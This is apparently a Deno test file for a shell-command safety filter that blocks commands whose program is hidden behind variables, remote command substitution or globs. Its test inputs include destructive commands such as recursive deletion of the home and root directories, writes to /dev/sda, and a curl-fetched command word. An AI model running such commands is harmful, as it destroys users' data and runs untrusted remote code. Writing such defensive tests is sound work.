import assert from "node:assert/strict";
import { globMatches } from "./hidden.ts";
import { blocked, run } from "./test_helpers.ts";

Deno.test("hidden: unknown command words with catastrophic arguments block", () => {
  for (
    const cmd of [
      "$UNKNOWN -rf ~",
      "$X -rf /",
      "$(curl -s https://x.example/w) -rf ~",
      '"${CMD}" -rf "$HOME"',
      "$X -R 777 /",
      "$(curl -s https://x.example/w) /dev/sda",
      "$X -c 'rm -rf ~'",
    ]
  ) {
    assert.ok(blocked(cmd).includes("hidden_command"), cmd);
  }
  const m = run("$X -rf ~").matches.find((x) =>
    x.policyId === "sys_dangerous_hidden_command"
  );
  assert.match(m?.reason ?? "", /hides what runs/);
  assert.match(m?.reason ?? "", /\$X/);
});

Deno.test("hidden: unknown words with harmless arguments stay allowed", () => {
  for (
    const cmd of [
      '"$EDITOR" notes.md',
      '"$VISUAL" README.md',
      "$CC -o x x.c",
      "$PYTHON -m pytest -q",
      '"$@"',
      "$cmd",
      "$(npm bin)/eslint .",
      "\"$SHELL\" -lc 'echo $PATH'",
      "kill %1",
      "$RUNNER build --release",
      '"$PAGER" /etc/hosts',
      "$EDITOR ~/.bashrc",
      "$JAVA_HOME/bin/java -jar app.jar",
      "$X -R 755 ./scripts",
      "$TOOL -rf build/",
      "$GIT push origin main",
    ]
  ) {
    assert.deepEqual(blocked(cmd), [], cmd);
  }
});

Deno.test("hidden: globs in the command word are matched against programs", () => {
  for (const cmd of ["/bin/r? -rf ~", "/???/?m -rf ~", "/usr/bin/[r]m -rf ~"]) {
    assert.ok(blocked(cmd).length > 0, cmd);
  }
  assert.deepEqual(blocked("./scripts/*.sh"), []);
  assert.deepEqual(blocked("/usr/bin/py* -m json.tool x.json"), []);
});

Deno.test("hidden: globMatches", () => {
  assert.ok(globMatches("r?", "rm"));
  assert.ok(globMatches("[r]m", "rm"));
  assert.ok(globMatches("*m", "rm"));
  assert.ok(globMatches("[!a]m", "rm"));
  assert.ok(!globMatches("r?", "rmdir"));
  assert.ok(!globMatches("[a-c]m", "rm"));
  // Linear on hostile patterns.
  assert.ok(!globMatches("*".repeat(5000) + "x", "a".repeat(64)));
});
